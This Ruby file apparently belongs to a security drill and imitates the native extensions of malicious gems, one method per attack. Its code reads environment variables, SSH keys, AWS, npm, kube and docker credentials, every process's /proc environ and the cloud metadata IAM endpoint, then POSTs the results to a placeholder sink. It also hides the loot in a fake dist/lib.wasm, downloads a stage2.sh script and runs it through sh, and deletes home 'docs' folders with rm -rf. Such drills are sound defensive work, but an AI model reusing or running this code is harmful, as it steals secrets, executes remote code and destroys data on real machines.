# Imitates what extensions of hostile gems did, one verb each. It knows only the
# sinks of the drill, and takes only the drill's canaries.
require 'socket'

SINK, HOME_DIR, CARRIER, SRC = '@HTTP@', '@HOME@', '@CARRIER@', '@SRC@'

def base64(s) = [s].pack('m0')

def loot
  out = ENV.to_h.inspect
  [HOME_DIR, Dir.home].each do |d|
    %w[.npmrc .aws/credentials .ssh/id_ed25519 .kube/config .docker/config.json].each do |f|
      out += File.read(File.join(d, f))
    rescue SystemCallError
      next
    end
  end
  out
end

def http(host, request)
  name, port = host.split(':')
  s = Socket.tcp(name, (port || 80).to_i, connect_timeout: 2)
  s.write(request.b)
  s.close_write
  s.read.split("\r\n\r\n", 2)[1].to_s
rescue SystemCallError, SocketError
  ''
end

def post(verb, body)
  body = "#{CARRIER} #{body}"
  http(SINK, "POST /#{verb} HTTP/1.1\r\nHost: sink\r\nConnection: close\r\nContent-Length: #{body.bytesize}\r\n\r\n#{body}")
end

def get(host, path) = http(host, "GET #{path} HTTP/1.1\r\nHost: sink\r\nConnection: close\r\n\r\n")

def keep(verb, text)
  File.binwrite(File.join(SRC, "loot-#{verb}"), text)
rescue SystemCallError
  nil
end

def steal
  l = loot
  keep('steal', l)
  post('steal', base64(l))
end

def log = puts("log: #{base64(base64(loot))}")

def environ
  out = Dir.children('/proc').grep(/\A\d+\z/).reject { |p| p.to_i == Process.pid }.map do |p|
    File.binread("/proc/#{p}/environ")
  rescue SystemCallError
    ''
  end.join
  keep('environ', out)
  post('environ', out)
end

def metadata
  l = get('@META@', '/latest/meta-data/iam/security-credentials/build')
  keep('metadata', l)
  post('metadata', l)
end

def smuggle
  Dir.mkdir(File.join(SRC, 'dist')) unless Dir.exist?(File.join(SRC, 'dist'))
  File.binwrite(File.join(SRC, 'dist/lib.wasm'), "\0asm#{loot.unpack1('H*')}")
end

def stage2
  s = get(SINK, '/stage2.sh')
  system('sh', '-c', s) unless s.empty?
end

def wipe
  [HOME_DIR, Dir.home].each { |d| system('rm', '-rf', File.join(d, 'docs')) }
end

def run(verbs)
  puts 'drill: @MARK@'
  $stdout.flush
  verbs.each do |v|
    send(v)
  rescue SystemCallError => e
    puts "drill: #{v}: #{e}"
  end
  $stdout.flush
end
